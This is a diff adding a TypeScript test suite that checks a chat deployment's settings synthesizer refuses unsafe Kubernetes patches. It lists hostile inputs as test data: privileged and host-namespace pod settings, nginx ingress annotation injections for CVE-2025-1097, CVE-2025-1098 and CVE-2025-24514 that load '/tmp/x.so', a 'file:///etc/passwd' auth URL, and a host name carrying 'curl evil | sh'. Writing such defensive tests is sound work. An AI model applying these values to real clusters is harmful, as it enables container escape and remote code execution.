@@ -1,0 +1,248 @@
+import { minimal, ownGateway } from '../../tests/cases';
+import { SettingsError } from '../checks/problem';
+import type { ChatSettings, Patch } from '../settings';
+import { synthesize } from '../synthesis/synthesis';
+import { GateError } from './gate';
+
+/** A chat with every kind that a patch may hit. */
+const chat: ChatSettings = {
+  ...minimal,
+  exposure: {
+    loadBalancer: { sourceRanges: ['10.0.0.0/8'], cloud: 'azure', scheme: 'internal' },
+    nginxIngress: { host: 'chat.example.com', tls: { clusterIssuer: 'letsencrypt' } },
+    gateway: { ...ownGateway, host: 'gateway.example.com' },
+  },
+  privateSites: [{ name: 'lab' }],
+};
+
+/** What the synthesis says of the chat with one more operation. */
+function answerTo(kind: string, operation: Patch['patch'][number], settings = chat): string {
+  try {
+    synthesize({ ...settings, patches: [{ target: { kind }, patch: [operation] }] });
+    return 'nothing';
+  } catch (error) {
+    expect(error instanceof SettingsError || error instanceof GateError).toBe(true);
+    return (error as Error).message;
+  }
+}
+
+const add = (path: string, value: unknown) => ({ op: 'add' as const, path, value });
+const pod = '/spec/template/spec';
+const container = `${pod}/containers/0`;
+const init = (more: object) => [{ name: 'init', image: 'x:1', ...more }];
+const nginx = (name: string) => `/metadata/annotations/nginx.ingress.kubernetes.io~1${name}`;
+
+describe('what a patch makes of a pod below Pod Security "baseline" is refused', () => {
+  test.each<[string, string, unknown]>([
+    ['HostProcess', `${pod}/securityContext/windowsOptions`, { hostProcess: true }],
+    ['HostProcess', `${container}/securityContext/windowsOptions`, { hostProcess: true }],
+    ['Host Namespaces', `${pod}/hostNetwork`, true],
+    ['Host Namespaces', `${pod}/hostPID`, true],
+    ['Host Namespaces', `${pod}/hostIPC`, true],
+    ['Privileged Containers', `${container}/securityContext/privileged`, true],
+    ['Privileged Containers', `${pod}/initContainers`, init({ securityContext: { privileged: true } })],
+    ['Capabilities', `${container}/securityContext/capabilities/add`, ['SYS_ADMIN']],
+    ['Capabilities', `${container}/securityContext/capabilities/add`, ['NET_RAW']],
+    ['Capabilities', `${container}/securityContext/capabilities/add`, ['CAP_SYS_ADMIN']],
+    ['Capabilities', `${container}/securityContext/capabilities/add`, ['ALL']],
+    ['HostPath Volumes', `${pod}/volumes/-`, { name: 'node', hostPath: { path: '/' } }],
+    ['Host Ports', `${container}/ports/0/hostPort`, 80],
+    ['Host Probes / Lifecycle Hooks', `${container}/livenessProbe/tcpSocket/host`, '169.254.169.254'],
+    [
+      'Host Probes / Lifecycle Hooks',
+      `${container}/lifecycle/preStop`,
+      { httpGet: { host: '10.0.0.1', port: 'http' } },
+    ],
+    ['AppArmor', `${pod}/securityContext/appArmorProfile`, { type: 'Unconfined' }],
+    ['AppArmor', `${container}/securityContext/appArmorProfile`, { type: 'Unconfined' }],
+    [
+      'AppArmor',
+      '/spec/template/metadata/annotations',
+      { 'container.apparmor.security.beta.kubernetes.io/ilab-client': 'unconfined' },
+    ],
+    ['SELinux', `${pod}/securityContext/seLinuxOptions`, { type: 'spc_t' }],
+    ['SELinux', `${container}/securityContext/seLinuxOptions`, { user: 'system_u' }],
+    ['SELinux', `${container}/securityContext/seLinuxOptions`, { role: 'system_r' }],
+    ['/proc Mount Type', `${container}/securityContext/procMount`, 'Unmasked'],
+    ['Seccomp', `${pod}/securityContext/seccompProfile/type`, 'Unconfined'],
+    ['Seccomp', `${container}/securityContext/seccompProfile`, { type: 'Unconfined' }],
+    ['Sysctls', `${pod}/securityContext/sysctls`, [{ name: 'kernel.msgmax', value: '1' }]],
+  ])('%s: %s', (control, path, value) => {
+    expect(answerTo('Deployment', add(path, value))).toContain(`which is below Pod Security "baseline" (${control})`);
+  });
+});
+
+describe('what Pod Security lets pass and no pod of a chat may have is refused', () => {
+  test.each<[string, string, unknown]>([
+    ['a node of its own choice', `${pod}/nodeName`, 'control-plane'],
+    ['processes of other containers', `${pod}/shareProcessNamespace`, true],
+    ['a token of the ServiceAccount', `${pod}/automountServiceAccountToken`, true],
+    [
+      'a token of the ServiceAccount',
+      `${pod}/volumes/-`,
+      { name: 'token', projected: { sources: [{ serviceAccountToken: { path: 'token' } }] } },
+    ],
+    ['containers that only a running pod can have', `${pod}/ephemeralContainers`, init({})],
+    ["a priority of the cluster's own pods", `${pod}/priorityClassName`, 'system-node-critical'],
+  ])('%s: %s', (what, path, value) => {
+    expect(answerTo('Deployment', add(path, value))).toContain(`no pod of a chat may have ${what}`);
+  });
+});
+
+describe('what a patch makes of other objects is refused', () => {
+  test.each<[string, string, Patch['patch'][number], string]>([
+    ['a snippet', 'Ingress', add(nginx('configuration-snippet'), 'deny all'), 'snippets run foreign configuration'],
+    ['a snippet of the server', 'Ingress', add(nginx('server-snippet'), 'deny all'), 'snippets run foreign'],
+    ['a snippet of the login', 'Ingress', add(nginx('auth-snippet'), 'deny all'), 'snippets run foreign'],
+    ['a snippet for all filters', 'Ingress', add(nginx('modsecurity-snippet'), 'a'), 'snippets run foreign'],
+    ['other hosts', 'Ingress', add(nginx('server-alias'), 'b.example.com'), 'it would take hosts that no rule names'],
+    ["a part of another's requests", 'Ingress', add(nginx('canary'), 'true'), "a part of another Ingress's requests"],
+    ['a copy of every question', 'Ingress', add(nginx('mirror-target'), 'https://x.example.com'), 'a copy of every'],
+    ['CVE-2025-1098', 'Ingress', add(nginx('mirror-host'), 'x;\n}\nload_module /tmp/x.so;'), 'a copy of every'],
+    [
+      'CVE-2025-1097',
+      'Ingress',
+      add(nginx('auth-tls-match-cn'), 'CN=a #(\n){}\n }}\nssl_engine /tmp/x.so;\n#'),
+      'writes it into its configuration',
+    ],
+    [
+      'CVE-2025-24514',
+      'Ingress',
+      add(nginx('auth-url'), 'http://x.example.com/#;\nload_module /tmp/x.so;'),
+      'writes it into its configuration',
+    ],
+    [
+      'an address that is none',
+      'Ingress',
+      add(nginx('auth-url'), 'file:///etc/passwd'),
+      'is not an address that nginx',
+    ],
+    ['several lines', 'Ingress', add(nginx('upstream-vhost'), 'a\nb'), 'writes it into its configuration'],
+    ["another's Secret", 'Ingress', add(nginx('auth-tls-secret'), 'victim/ca'), 'an object of another namespace'],
+    ["another's users", 'Ingress', add(nginx('auth-secret'), 'victim/users'), 'an object of another namespace'],
+    ["another's ConfigMap", 'Ingress', add(nginx('custom-headers'), 'victim/x'), 'an object of another namespace'],
+    ['the ranges before the login', 'Ingress', add(nginx('satisfy'), 'any'), 'skip the login'],
+    [
+      'two classes',
+      'Ingress',
+      add('/metadata/annotations/kubernetes.io~1ingress.class', 'other'),
+      'a class in an annotation and in spec.ingressClassName',
+    ],
+    ['a host with a command in it', 'Ingress', add('/spec/rules/0/host', 'x; curl evil | sh #'), 'is not a host name'],
+    [
+      "another's Service",
+      'HTTPRoute',
+      add('/spec/rules/0/backendRefs', [{ name: 'page', namespace: 'victim', port: 80 }]),
+      'of the namespace "victim"',
+    ],
+    [
+      'another kind behind a route',
+      'HTTPRoute',
+      add('/spec/rules/0/backendRefs', [{ name: 'lab', kind: 'ServiceImport', port: 80 }]),
+      'where a Service belongs',
+    ],
+    [
+      'a mirror',
+      'HTTPRoute',
+      add('/spec/rules/0/filters', [{ type: 'RequestMirror', requestMirror: { backendRef: { name: 'x' } } }]),
+      'a copy of every question',
+    ],
+    [
+      "another's certificate",
+      'Gateway',
+      add('/spec/listeners/0/tls', { certificateRefs: [{ name: 'tls', namespace: 'victim' }] }),
+      'of the namespace "victim"',
+    ],
+    ["addresses of the cluster's", 'Service', add('/spec/externalIPs', ['10.96.0.10']), 'takes what the cluster sends'],
+    ['a way out', 'Service', add('/spec/externalName', 'victim.victim.svc'), 'leads out of the namespace'],
+    [
+      "the cluster's entrance",
+      'Namespace',
+      add('/metadata/labels/policy-group.network.openshift.io~1ingress', ''),
+      'let this namespace in',
+    ],
+    [
+      'no security of OpenShift',
+      'Namespace',
+      add('/metadata/labels/openshift.io~1run-level', '0'),
+      'takes the namespace out',
+    ],
+    [
+      'no policies',
+      'Namespace',
+      add('/metadata/labels/admission.gatekeeper.sh~1ignore', 'yes'),
+      'takes the namespace out',
+    ],
+    [
+      "the router's label",
+      'Deployment',
+      add('/spec/template/metadata/labels/skupper.io~1component', 'router'),
+      'by this label Skupper',
+    ],
+    [
+      "the router's other label",
+      'Deployment',
+      add('/spec/template/metadata/labels/application', 'skupper-router'),
+      'by this label Skupper',
+    ],
+    [
+      'a second network',
+      'Deployment',
+      add('/spec/template/metadata/annotations', { 'k8s.v1.cni.cncf.io/networks': 'x' }),
+      'a second network',
+    ],
+    [
+      'devices of the node',
+      'Deployment',
+      add('/spec/template/metadata/annotations', { 'io.kubernetes.cri-o.Devices': '/dev/fuse' }),
+      'the runtime of the node',
+    ],
+    [
+      'an image that moves',
+      'Deployment',
+      add(`${pod}/initContainers`, init({ image: 'x:latest' })),
+      'image "x:latest" has no tag, or one that moves',
+    ],
+    [
+      'a probe of no port',
+      'Deployment',
+      add(`${container}/startupProbe`, { grpc: { port: 5000 } }),
+      'a probe asks port "5000"',
+    ],
+    [
+      "another's ServiceAccount",
+      'Deployment',
+      add(`${pod}/serviceAccountName`, 'skupper-router'),
+      'refers to the ServiceAccount',
+    ],
+    ["another's pods", 'Service', add('/spec/selector', { application: 'skupper-router' }), 'selector matches no pods'],
+    [
+      'a Secret in the environment',
+      'Deployment',
+      add(`${container}/env/-`, { name: 'API_KEY', value: 'abc' }),
+      'named like a secret',
+    ],
+    ['another kind', 'Deployment', add('/kind', 'DaemonSet'), 'no patch changes them'],
+    ['another namespace', 'Deployment', add('/metadata/namespace', 'kube-system'), 'no patch changes them'],
+    ['another name', 'Service', add('/metadata/name', 'victim'), 'no patch changes them'],
+  ])('%s', (_, kind, operation, answer) => {
+    expect(answerTo(kind, operation)).toContain(answer);
+  });
+
+  test("another's right", () => {
+    const route: ChatSettings = {
+      ...minimal,
+      platform: 'openshift',
+      exposure: {
+        openshiftRoute: { host: 'chat.example.com', tls: { externalCertificate: { secretName: 'chat-tls' } } },
+      },
+    };
+    expect(answerTo('Role', add('/rules/0/resources', ['*']), route)).toContain('gives every right');
+    expect(answerTo('RoleBinding', add('/roleRef/kind', 'ClusterRole'), route)).toContain(
+      'binds a role of the cluster',
+    );
+    expect(answerTo('Route', add('/spec/alternateBackends', [{ kind: 'Other', name: 'x' }]), route)).toContain(
+      'a Route leads to Services',
+    );
+  });
+});
